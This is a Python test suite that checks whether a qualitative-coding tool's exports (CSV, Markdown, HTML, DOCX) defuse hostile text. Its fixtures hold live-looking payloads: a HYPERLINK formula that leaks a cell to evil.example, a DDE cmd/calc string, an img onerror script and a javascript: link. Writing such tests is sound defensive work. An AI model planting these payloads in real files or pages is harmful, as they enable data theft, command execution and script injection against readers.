"""Exports never attack their reader: no live formula in a CSV, no live link, image or HTML in
the Markdown report, no tag from the study's text in the HTML, no field in the DOCX."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from coding import service
from coding.cli import cli
from coding.export import document as doc
from coding.export.cells import FORMULA_START, csv_text, formula_like, neutralise
from coding.service import access
from coding.service.export import export_study
from coding.store import Store
from tests.conftest import write_codings

pytestmark = pytest.mark.both_engines

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
IMAGE = "![x](http://evil.example/track.png)"
LINK = "[help](javascript:alert(1))"
HTML = '<img src="http://evil.example/i.png" onerror="alert(1)">'
AUTOLINK = "<http://evil.example/auto>"
PAYLOAD = f"{IMAGE} {LINK} {HTML} {AUTOLINK}"
HOSTILE_CODEBOOK = f"""codebook:
  id: hostile
  name: 'Hostile {LINK}'
codes:
  - id: calm
    name: '@calm {IMAGE}'
    definition: '{FORMULA} {PAYLOAD}'
  - id: cues
    name: 'Cues $\\frac{{$ cost'
    definition: '+cmd|'' /C calc''!A0 {HTML}'
"""
DOCUMENT = f"""# {LINK} title

{FORMULA} first unit {IMAGE}

-2+3 second unit {HTML}

@SUM(1) third unit {AUTOLINK}
"""


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """Hostile payloads in a code's name and definition, a document's title, the coded text,
    and a reviewer's rationale; a "$" (matplotlib's mathtext) in a code name; two coders, one
    disagreement resolved."""
    codebook = tmp_path / "hostile.yaml"
    codebook.write_text(HOSTILE_CODEBOOK, encoding="utf-8")
    source = tmp_path / "hostile.md"
    source.write_text(DOCUMENT, encoding="utf-8")
    path = tmp_path / "hostile.db"
    service.init_study(path, "tester", codebook).close()
    with Store.open(path) as store:
        service.import_documents(
            store, [source], "tester", programme=f"-Programme {LINK}", title=f"={LINK} {HTML}"
        )
        units = [s.id for s in store.segments()]
        service.add_coders(store, ["amira", "ben"], "tester")
        rows = [(u, "amira", "calm") for u in units] + [(units[0], "ben", "calm")]
        service.import_codings(store, write_codings(tmp_path / "c.csv", rows), "tester")
        access.add_user(store, "rosa", "reviewer", "a long enough password", "tester")
        service.resolve(store, "rosa", units[1], "calm", "apply", f"{FORMULA} {PAYLOAD}")
    return path


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_export_of_a_hostile_study_is_written(hostile_db: Path, tmp_path: Path) -> None:
    with Store.open(hostile_db) as store:
        written = export_study(store, tmp_path / "out")
    assert {"matrix.svg", "matrix.png", "theme_report.html"} <= {p.name for p in written}
    report = (tmp_path / "out" / "theme_report.md").read_text(encoding="utf-8")
    assert doc.md_text("Cues $\\frac{$ cost") in report


def test_no_csv_export_has_a_live_formula(hostile_db: Path, tmp_path: Path) -> None:
    with Store.open(hostile_db) as store:
        written = export_study(store, tmp_path / "out", formats=["csv"])
    assert {p.name for p in written} >= {"coded_segments.csv", "matrix.csv", "audit_log.csv"}
    hostile_seen = 0
    for path in written:
        for cell in _cells(path):
            assert not formula_like(cell), (path.name, cell)
            hostile_seen += cell.startswith(("'=", "'+", "'-", "'@"))
    assert hostile_seen >= 5  # text, code names, programme, title and rationale all arrived
    coded = _cells(tmp_path / "out" / "coded_segments.csv")
    assert "'" + f"={LINK} {HTML}" in coded  # the title, kept whole after its apostrophe
    assert any(c.startswith("'" + FORMULA) for c in coded)  # the unit text and the rationale


def test_csv_keeps_numbers_and_plain_text_as_they_are() -> None:
    frame = csv_text(
        pd.DataFrame(
            {"text": ["-0.5", "-2+3", "a=b", "\tx", "\rx"], "n": [-1.5, 2.0, -3.0, 0.0, 1.0]}
        )
    )
    rows = list(csv.reader(io.StringIO(frame)))
    assert rows[1:] == [
        ["-0.5", "-1.5"],
        ["'-2+3", "2.0"],
        ["a=b", "-3.0"],
        ["'\tx", "0.0"],
        ["'\rx", "1.0"],
    ]


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}cmd") == f"'{start}cmd"


@pytest.mark.parametrize(
    "args",
    [
        ["disagreements", "{db}", "--format", "csv"],
        ["agreement", "{db}", "--disagreements", "--format", "csv"],
    ],
)
def test_cli_csv_output_has_no_live_formula(hostile_db: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, [a.format(db=hostile_db) for a in args])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
    assert any(c.startswith("'@SUM(1) third unit") for c in cells)  # a disputed unit's text
    assert not any(formula_like(c) for c in cells)


def _markdown_html(text: str) -> str:
    """The HTML a CommonMark viewer makes of ``text`` (raw HTML allowed, as most viewers do)."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_theme_report_markdown_has_no_live_link_image_or_html(
    hostile_db: Path, tmp_path: Path
) -> None:
    with Store.open(hostile_db) as store:
        export_study(store, tmp_path / "out", ["themes"], ["md"])
    text = (tmp_path / "out" / "theme_report.md").read_text(encoding="utf-8")
    assert "evil.example" in text  # the payloads are in the report, as text
    rendered = _markdown_html(text)
    # The only tags in the rendered report are the report's own structure: its one image is
    # the matrix figure beside it, and it has no link at all.
    assert re.findall(r"<img [^>]*>", rendered) == [
        '<img src="theme_matrix.png" alt="Programme x code matrix: share of each '
        "programme's segments with the final code\" />"
    ]
    assert "<a " not in rendered and "javascript:" not in re.sub(r">[^<]*<", "><", rendered)
    tags = set(re.findall(r"<(/?[a-z0-9]+)", rendered))
    assert tags <= {
        "h1", "/h1", "h2", "/h2", "h3", "/h3", "p", "/p", "em", "/em", "blockquote",
        "/blockquote", "table", "/table", "thead", "/thead", "tbody", "/tbody", "tr", "/tr",
        "th", "/th", "td", "/td", "img", "br",
    }  # fmt: skip
    # What a reader sees is what the study holds: the payloads come back as plain text.
    shown = re.sub(r"<[^>]+>", "", rendered)
    for payload in (IMAGE, LINK, AUTOLINK, FORMULA):
        assert (
            payload.replace("&", "&amp;")
            .replace('"', "&quot;")
            .replace("<", "&lt;")
            .replace(">", "&gt;")
            in shown
        ), payload


def test_theme_report_markdown_text_has_no_unescaped_link_or_tag(
    hostile_db: Path, tmp_path: Path
) -> None:
    """The same, without a Markdown parser: no unescaped ``](`` or ``<`` from the data."""
    with Store.open(hostile_db) as store:
        export_study(store, tmp_path / "out", ["themes"], ["md"])
    lines = (tmp_path / "out" / "theme_report.md").read_text(encoding="utf-8").splitlines()
    figure = [line for line in lines if line.startswith("![")]
    assert figure == [f"![{doc.md_text('Programme x code matrix: share of each programme')}"
                      "'s segments with the final code](theme_matrix.png)"]  # fmt: skip
    for line in lines:
        if line in figure:
            continue
        assert not re.search(r"(?<!\\)\]\(", line), line
        assert not re.search(r"(?<!\\)!\[|(?<!\\)\[", line), line
        assert "<" not in line, line


@pytest.mark.parametrize("kind", ["themes", "agreement"])
def test_html_reports_hold_no_tag_from_the_study(
    hostile_db: Path, tmp_path: Path, kind: str
) -> None:
    with Store.open(hostile_db) as store:
        export_study(store, tmp_path / "out", [kind], ["html"])
    name = "theme_report.html" if kind == "themes" else "agreement.html"
    page = (tmp_path / "out" / name).read_text(encoding="utf-8")
    assert "<img" not in page and "<a " not in page and "javascript:alert(1)</a" not in page
    assert "<http://evil" not in page and "onerror=" not in page.replace("onerror=&quot;", "")
    if kind == "themes":
        assert "&lt;img src=&quot;http://evil.example/i.png&quot;" in page


def test_docx_report_holds_the_payloads_as_text_without_fields_or_links(
    hostile_db: Path, tmp_path: Path
) -> None:
    with Store.open(hostile_db) as store:
        export_study(store, tmp_path / "out", ["themes"], ["docx"])
    with zipfile.ZipFile(tmp_path / "out" / "theme_report.docx") as archive:
        body = archive.read("word/document.xml").decode("utf-8")
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    assert "=HYPERLINK(" in body  # present, as the text of a run
    for live in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink"):
        assert live not in body, live
    assert "evil.example" not in rels  # no external relationship (image or link) was made
